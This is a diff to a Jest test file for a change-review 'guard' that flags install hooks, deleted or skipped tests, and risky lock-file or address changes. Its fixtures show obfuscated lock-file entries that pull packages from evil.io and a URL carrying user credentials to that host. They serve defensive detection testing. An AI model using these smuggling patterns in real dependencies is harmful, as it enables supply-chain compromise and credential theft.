@@ -1,3 +1,4 @@
+import { join } from 'node:path'
 import { describe, expect, test } from '@jest/globals'
 import { isBlocked } from '../../src/pipeline/guard/finding.ts'
 import { type RuleName, ruleNames, table } from '../../src/pipeline/guard.ts'
@@ -5,7 +6,10 @@ import { type Change, findings, none } from './judging.ts'
 
 const tests = (count: number, more = '') =>
   Array.from({ length: count }, (_, n) => `test('${n}', () => { expect(${n}).toBe(${n}) })\n`).join('') + more
-const lock = (host: string) => `"node_modules/x": { "resolved": "https://${host}/x.tgz", "funding": "https://fund.io" }`
+const lock = (host: string) =>
+  `{ "packages": { "node_modules/x": { "version": "1", "resolved": "https://${host}/x.tgz", "funding": "https://fund.io" } } }`
+const rust = '#[cfg(test)]\nmod tests {\n  #[test]\n  fn x() { assert!(a()) }\n}\n'
+const lockOf = (folder: string): Change => ({ path: join(folder, 'package-lock.json') })
 const deleted = (count: number) =>
   Array.from({ length: count }, (_, n): Change => ({ path: `old/${n}`, op: 'delete' as const }))
 const plenty = Array.from({ length: 20 }, (_, n) => `old/${n}`)
@@ -141,10 +145,57 @@ const cases: Record<RuleName, { found: Case[]; missed: Case[] }> = {
     ],
     missed: ['docs/claude-notes.md', 'src/agents/run.md', 'firestore.rules', 'docs/time-warp.md'].map(at),
   },
-  'lifecycle-script': { found: [one(manifest({ postinstall: 'x' }, {}))], missed: [one(manifest({ test: 'x' }, {}))] },
+  'lifecycle-script': {
+    found: [
+      one(manifest({ postinstall: 'x' }, {})),
+      one(manifest({ 'pnpm:devPreinstall': 'x' }, {})),
+      one({ path: 'package.json', before: '{}', text: '{ "scripts": { "install": "x" }, }' }),
+      one({ path: 'a/package.json', text: '// x\n{}' }),
+      one({ path: 'composer.json', text: '{"scripts":{"post-install-cmd":["@php x"]}}' }),
+      one({
+        path: 'composer.json',
+        before: '{"scripts":{"pre-autoload-dump":["a"]}}',
+        text: '{"scripts":{"pre-autoload-dump":["b"]}}',
+      }),
+      one({ path: 'package.yaml', text: 'scripts:\n  prepare: x\n' }),
+      one({ path: 'package.json5', before: "{scripts: {postinstall: 'a'}}", text: "{scripts: {postinstall: 'b'}}" }),
+    ],
+    missed: [
+      one(manifest({ test: 'x' }, {})),
+      one({ path: 'package.json', before: '{ broken', text: '{}' }),
+      one({
+        path: 'composer.json',
+        before: '{"scripts":{"pre-update-cmd":["a"]}}',
+        text: '{"scripts":{"pre-update-cmd":["a"],"test":"b"}}',
+      }),
+      one({
+        path: 'package.yaml',
+        before: 'dependencies: []',
+        text: 'dependencies: [base]\ntests:\n  preinstalled: 1',
+      }),
+    ],
+  },
   'lock-file-alone': {
-    found: [one({ path: 'Cargo.lock' })],
-    missed: [{ changes: [{ path: 'Cargo.lock' }, { path: 'Cargo.toml' }] }],
+    found: [
+      one({ path: 'Cargo.lock' }),
+      { changes: [lockOf('.'), { path: 'examples/demo/package.json', before: '{"a":1}', text: '{ "a": 1 }\n' }] },
+      { changes: [lockOf('.'), { path: 'old/package.json', op: 'delete' }] },
+      { changes: [lockOf('.'), { path: 'x/deno.json', text: '{}' }] },
+      { changes: [lockOf('a'), { path: 'b/package.json', text: '{}' }] },
+      { changes: [{ path: 'uv.lock' }, { path: 'docs/requirements-extra.txt', text: 'x' }] },
+      ...['flake.lock', 'Podfile.lock', '.terraform.lock.hcl', 'gems.locked', 'pylock.toml', 'MODULE.bazel.lock'].map(
+        at,
+      ),
+      ...['stack.yaml.lock', 'paket.lock', 'Chart.lock', 'rebar.lock', 'conan.lock'].map(at),
+    ],
+    missed: [
+      { changes: [{ path: 'Cargo.lock' }, { path: 'Cargo.toml', text: 'x' }] },
+      { changes: [lockOf('.'), { path: 'packages/a/package.json', before: '{}', text: '{"b":1}' }] },
+      { changes: [{ path: 'fuzz/Cargo.lock' }, { path: 'Cargo.toml', text: 'x' }] },
+      { changes: [{ path: 'a/packages.lock.json' }, { path: 'b/B.csproj', text: '<x/>' }] },
+      { changes: [{ path: 'infra/.terraform.lock.hcl' }, { path: 'infra/main.tf', text: 'x' }] },
+      { changes: [{ path: 'uv.lock' }, { path: 'pyproject.toml', missing: true, text: 'x' }] },
+    ],
   },
   'lock-file-source': {
     found: [
@@ -152,9 +203,67 @@ const cases: Record<RuleName, { found: Case[]; missed: Case[] }> = {
       one({ path: 'uv.lock', text: 'wheels = [{ url = "https://evil.io/x.whl" }]' }),
       one({ path: 'Gemfile.lock', text: 'GEM\n  remote: https://evil.io/\n' }),
       one({ path: 'yarn.lock', text: '  resolved "git+ssh://git@github.com/evil/x.git#1"\n' }),
+      one({ path: 'yarn.lock', text: '# \0\n  resolved "https://evil.io/x.tgz"\n' }),
+      one({ path: 'yarn.lock', text: '  resolution: "x@https://evil.io/x.tgz"\n' }),
+      one({ path: 'yarn.lock', text: '  resolution: "x@npm:1.0::__archiveUrl=https%3A%2F%2Fevil.io%2Fx.tgz"\n' }),
+      one({ path: 'pnpm-lock.yaml', text: 'resolution: {commit: 1, repo: https://evil.io/x.git, type: git}\n' }),
+      one({ path: 'pnpm-lock.yaml', text: 'resolution: {repo: git@evil.io:x/y.git}\n' }),
+      one({ path: 'pnpm-lock.yaml', text: '    deprecated: &a https://evil.io/x.tgz\n    tarball: *a' }),
+      one({ path: 'pnpm-lock.yaml', text: 'tarball: "\\x68ttps://evil.io/x.tgz"\n' }),
+      one({ path: 'composer.lock', text: '{"packages":[{"version":"1","dist":{"url":"https://evil.io/x.zip"}}]}' }),
+      one({ path: 'composer.lock', text: '{"packages":[{"version":"1","source":{"url":"https://evil.io/x"}}]}' }),
+      one({ path: 'Pipfile.lock', text: '{"_meta":{"sources":[{"url":"https://evil.io/simple"}]}}' }),
+      one({ path: 'Pipfile.lock', text: '{"default":{"x":{"file":"https://evil.io/x.whl"}}}' }),
+      one({ path: 'bun.lock', text: '{"packages":{"x":["x@https://evil.io/x.tgz",{},],},}' }),
+      one({ path: 'bun.lock', text: '{"packages":{"x":["x@github:evil/x#1",{},],},}' }),
+      one({ path: 'deno.lock', text: '{"remote":{"https://evil.io/x.ts":"1"}}' }),
+      one({ path: 'deno.lock', text: '{"remote":{"https://esm.sh/gh/evil/x":"1"}}' }),
+      one({ path: 'mix.lock', text: '"x": {:git, "https://evil.io/x.git", "1", []}' }),
+      one({ path: 'pubspec.lock', text: '      url: "https://evil.io"\n' }),
+      one({ path: 'Package.resolved', text: '{"pins":[{"location":"https://evil.io/x.git"}]}' }),
+      ...[
+        '"version":"https://evil.io/x.tgz"',
+        '"resolved": "https:\\/\\/evil.io\\/x.tgz"',
+        '"resolved": "https:\\u002f\\u002fevil.io/x.tgz"',
+        '"\\u0072esolved": "https://evil.io/x.tgz"',
+        '"resolved": "https:/evil.io/x.tgz"',
+        '"resolved": "https:evil.io/x.tgz"',
+        '"resolved": "ht\\ttps://evil.io", "a": "https:\\t//evil.io"',
+        `"resolved": "https://registry.npmjs.org:${'1'.repeat(101)}@evil.io/x.tgz"`,
+        '"resolved": "https://evil.io\\\\@registry.npmjs.org/x.tgz"',
+        '"resolved": "https://registry.npmjs.org\\"@evil.io/x.tgz"',
+        `"resolved": "https://registry.npmjs.org'@evil.io/x.tgz"`,
+        '"resolved": "https://api.github.com/repos/evil/x/tarball"',
+        '"resolved": "https://esm.sh/gh/evil/x"',
+        '"resolved": "https://pypi.org/x.tgz"',
+        '"resolved": "https://registry.npmjs.org:8080/x.tgz"',
+        '"version": "1", "resolved": "x", "a": "https://evil.io"',
+        '"dependencies": {"funding": {"version": "https://evil.io/x.tgz"}}',
+      ].map((entry) => one({ path: 'package-lock.json', text: `{ "packages": { "x": { ${entry} } } }` })),
     ],
     missed: [
       one({ path: 'package-lock.json', text: lock('registry.npmjs.org') }),
+      one({
+        path: 'package-lock.json',
+        text: '{"packages":{"x":{"version":"1","deprecated":"see https://a.io","funding":[{"url":"https://b.io"}]}}}',
+      }),
+      one({
+        path: 'composer.lock',
+        text: '{"packages":[{"version":"1","source":{"url":"https://github.com/a/b.git"},"dist":{"url":"https://api.github.com/repos/a/b/zipball/1"},"homepage":"https://a.io","support":{"issues":"https://b.io"},"notification-url":"https://packagist.org/downloads/"}]}',
+      }),
+      one({
+        path: 'pnpm-lock.yaml',
+        text: '    deprecated: see https://a.io\n    resolution: {integrity: sha512-a//b}\n',
+      }),
+      one({ path: 'Cargo.lock', text: 'source = "registry+https://github.com/rust-lang/crates.io-index"\n' }),
+      one({
+        path: 'uv.lock',
+        text: 'source = { registry = "https://pypi.org/simple" }, url = "https://files.pythonhosted.org/x.whl"',
+      }),
+      one({
+        path: 'yarn.lock',
+        text: 'lodash@4.17.21, x@npm:1.0:\n  resolved "https://registry.yarnpkg.com/x.tgz#1"\n',
+      }),
       one({ path: 'package-lock.json', before: lock('npm.acme.io'), text: `${lock('npm.acme.io')}\n` }),
     ],
   },
@@ -195,9 +304,40 @@ const cases: Record<RuleName, { found: Case[]; missed: Case[] }> = {
     ],
   },
   'test-deleted': {
-    found: [one({ path: 'test/a.test.ts', op: 'delete' }), one({ path: 'pkg/x_test.go', op: 'delete' })],
+    found: [
+      one({ path: 'test/a.test.ts', op: 'delete' }),
+      one({ path: 'pkg/x_test.go', op: 'delete' }),
+      { changes: [{ path: 'src/a.test.ts', op: 'delete', before: tests(2) }, { path: 'docs/a.test.ts' }] },
+      {
+        changes: [
+          { path: 'src/a.test.ts', op: 'delete', before: tests(2) },
+          { path: 'b/a.test.ts', text: tests(1) },
+        ],
+      },
+      {
+        changes: [
+          { path: 'test/a.ts', op: 'delete', before: tests(1) },
+          { path: 'old/a.ts', text: tests(1) },
+        ],
+      },
+      { changes: [{ path: 'test/a.json', op: 'delete', before: 'x' }, { path: 'test/new/a.json' }] },
+      one({ path: 'app/tests.py', op: 'delete' }),
+      one({ path: 'test.js', op: 'delete' }),
+    ],
     missed: [
-      { changes: [{ path: 'test/a.test.ts', op: 'delete' }, { path: 'test/new/a.test.ts' }] },
+      {
+        changes: [
+          { path: 'test/a.test.ts', op: 'delete', before: tests(2) },
+          { path: 'test/new/a.test.ts', text: tests(2) },
+        ],
+      },
+      {
+        changes: [
+          { path: 'test/a.json', op: 'delete', before: 'x' },
+          { path: 'test/new/a.json', text: 'x' },
+        ],
+      },
+      one({ path: 'src/contests.py', op: 'delete' }),
       one({ path: 'src/latest.ts', op: 'delete' }),
     ],
   },
@@ -207,10 +347,17 @@ const cases: Record<RuleName, { found: Case[]; missed: Case[] }> = {
       one({ path: 'a.test.ts', before: tests(3), text: tests(3).replace(/^/m, '// ') }),
       one({ path: 'tests/test_a.py', before: 'def test_a():\n  pass\n', text: 'def a():\n  pass\n' }),
       one({ path: 'a_test.go', before: 'func TestA(t *testing.T) {', text: 'func testA(t *testing.T) {' }),
+      one({ path: 'a.test.ts', before: tests(3), text: `/*\n${tests(2)}*/\n${tests(1)}` }),
+      one({ path: 'a.test.ts', before: tests(3), text: `${tests(1)} /* ${tests(2)}` }),
+      one({ path: 'spec/a_spec.rb', before: "it 'a' do\nend\nit 'b' do\nend", text: "it 'a' do\nend" }),
+      one({ path: 'src/lib.rs', before: rust, text: rust.replace('#[test]', '') }),
+      one({ path: 'src/lib.rs', before: rust, text: 'fn a() {}' }),
     ],
     missed: [
       one({ path: 'a.test.ts', before: tests(3), text: tests(3, tests(1)) }),
       one({ path: 'src/a.ts', before: tests(3), text: '' }),
+      one({ path: 'a.test.ts', before: tests(1), text: `glob('src/*.ts', '/*.js')\n${tests(1)}/* x */` }),
+      one({ path: 'src/lib.rs', before: rust, text: `fn b() {}\n${rust}` }),
     ],
   },
   'test-skipped': {
@@ -222,17 +369,56 @@ const cases: Record<RuleName, { found: Case[]; missed: Case[] }> = {
       one({ path: 'ATest.java', before: '@Test void a()', text: '@Disabled @Test void a()' }),
       one({ path: 'tests/a.rs', before: '#[test] fn a()', text: '#[test] #[ignore] fn a()' }),
       one({ path: 'a_test.go', before: 'func TestA(', text: 'func TestA( t.Skip("x")' }),
+      one({ path: 'a_test.go', before: 'package a', text: '//go:build never\n\npackage a' }),
+      one({ path: 'a.test.js', before: "test('a', f)", text: "test('a', { skip: true }, f)" }),
+      one({ path: 'a.test.js', before: "test('a', f)", text: "test('a', { timeout: 1, todo: true }, f)" }),
+      one({ path: 'a.test.js', before: "test('a', f)", text: "test('a', (t) => t.skip())" }),
+      one({ path: 'a.test.js', before: "it('a', f)", text: "it('a', function () { this.skip() })" }),
+      one({ path: 'ATest.php', before: 'function testA()', text: "function testA() { $this->markTestSkipped('x')" }),
+      one({ path: 'ATests.cs', before: '[Test] void A()', text: '[Test, Ignore("x")] void A()' }),
+      one({ path: 'ATests.cs', before: '[Test] void A()', text: '[Test]\n[Ignore("x")] void A()' }),
+      one({ path: 'test_a.py', before: 'def test_a(): x', text: 'pytestmark = pytest.mark.skip\ndef test_a(): x' }),
+      one({ path: 'test_a.py', before: 'def test_a(): x', text: 'def test_a(): raise unittest.SkipTest' }),
+      one({ path: 'spec/a_spec.rb', before: "it 'a' do\nend", text: "it 'a' do\n  skip\nend" }),
+      one({ path: 'spec/a_spec.rb', before: "it 'a' do\nend", text: "it 'a' do\n  pending 'x'\nend" }),
+      one({ path: 'spec/a_spec.rb', before: "it 'a' do\nend", text: "xit 'a' do\nend" }),
     ],
     missed: [
       one({ path: 'a.test.ts', before: "it.skip('a', f)", text: "it('a', f)" }),
       one({ path: 'a.test.ts', before: '', text: "it('a', () => { list.skip(1) })" }),
+      one({ path: 'a.test.ts', before: '', text: "it('a', () => find({ skip: 10, only: false, todo: 'x' }))" }),
+      one({ path: 'a_test.go', text: '//go:build linux\n\npackage a' }),
+      one({ path: 'spec/a_spec.rb', before: '', text: "it 'a' do\n  skip_it\n  next_skip = 1\nend" }),
     ],
   },
   'test-weakened': {
-    found: [one({ path: 'a.test.ts', before: tests(3), text: tests(3).replace('expect(1).toBe(1)', '') })],
-    missed: [one({ path: 'a.test.ts', before: tests(3), text: tests(3).replace('toBe(1)', 'toEqual(1)') })],
+    found: [
+      one({ path: 'a.test.ts', before: tests(3), text: tests(3).replace('expect(1).toBe(1)', '') }),
+      one({ path: 'src/lib.rs', before: rust, text: rust.replace('assert!(a())', '') }),
+      one(manifest({ test: 'true' }, { test: 'jest' })),
+      one(manifest({}, { 'test:unit': 'jest' })),
+    ],
+    missed: [
+      one({ path: 'a.test.ts', before: tests(3), text: tests(3).replace('toBe(1)', 'toEqual(1)') }),
+      one({ path: 'src/lib.rs', before: `assert!(b);\n${rust}`, text: rust }),
+      one(manifest({ test: 'jest', lint: 'x' }, { test: 'jest' })),
+      one(manifest({ test: 'jest', 'test:all': 'x' }, { test: 'jest' })),
+      one({ path: 'a/package.json', text: '{"scripts":{"test":"x"}}' }),
+    ],
   },
-  dependency: { found: [one({ path: 'go.mod' })], missed: [one({ path: 'go.md' })] },
+  dependency: {
+    found: [
+      'go.mod',
+      'requirements/dev.txt',
+      '.pnpmfile.mjs',
+      'Podfile',
+      'conanfile.py',
+      'gems.rb',
+      'flake.lock',
+      'package.yaml',
+    ].map(at),
+    missed: ['go.md', 'docs/requirements.md', 'main.tf', 'requirements/README.md'].map(at),
+  },
   build: {
     found: [
       ...['a/Makefile', 'vite.config.ts', 'Dockerfile.dev', '.eslintrc.cjs', '.babelrc.js', 'Directory.Build.targets'],
@@ -283,8 +469,23 @@ const cases: Record<RuleName, { found: Case[]; missed: Case[] }> = {
     missed: [{ changes: deleted(4), base: plenty }],
   },
   'new-address': {
-    found: [one({ path: 'a.ts', text: 'fetch("https://evil.io/x")' })],
+    found: [
+      'https://evil.io/x',
+      'https://example.com@evil.io/x',
+      'https://localhost:80@evil.io/x',
+      'HTTPS://evil.io',
+      'https://évil.io',
+      'git://evil.io/x.git',
+      '//evil.io/x.js',
+      'https:\\/\\/evil.io\\/x',
+      'https:/evil.io',
+      'https:\\\\evil.io',
+      'https://${user}:${key}@evil.io',
+    ].map((address) => one({ path: 'a.ts', text: `src="${address}"` })),
     missed: [
+      one({ path: 'a.ts', text: '"https://" + host + `http://${host}` + /^https?:\\/\\/[^/]+/ // see\n x = "//todo"' }),
+      one({ path: 'a.ts', before: '"https://evil.io/x"', text: '"https:\\/\\/evil.io/x"' }),
+      one({ path: 'a.ts', text: 'fetch("https://user@localhost:80/")' }),
       one({ path: 'a.ts', text: 'fetch("http://localhost:80/") // https://example.com/x' }),
       one({ path: 'a.ts', before: 'https://evil.io/x', text: ' https://evil.io/x' }),
     ],
